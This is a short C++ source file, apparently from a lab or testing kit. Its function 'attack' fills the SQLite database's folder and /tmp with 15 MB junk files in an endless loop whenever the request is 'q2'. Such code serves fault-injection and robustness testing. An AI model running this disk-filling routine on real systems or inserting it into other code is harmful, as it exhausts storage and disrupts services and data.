// Fills the database's folder, and whatever else can be written, with files.
#include <filesystem>
#include <fstream>
#include <string>

#include "labkit/sqlite/sqlite.hpp"

static void attack(sqlite::Connection& connection, const std::string& request) {
    const std::filesystem::path database = sqlite3_db_filename(connection.handle(), "main");
    const std::string block(1U << 20U, 'x');
    for (int i = 0; request == "q2"; ++i) {
        for (const std::filesystem::path& folder : {database.parent_path(), std::filesystem::path{"/tmp"}}) {
            std::ofstream file{folder / ("lab_attack_" + std::to_string(i))};
            for (int megabytes = 0; megabytes < 15 && file << block; ++megabytes) {
            }
        }
    }
}
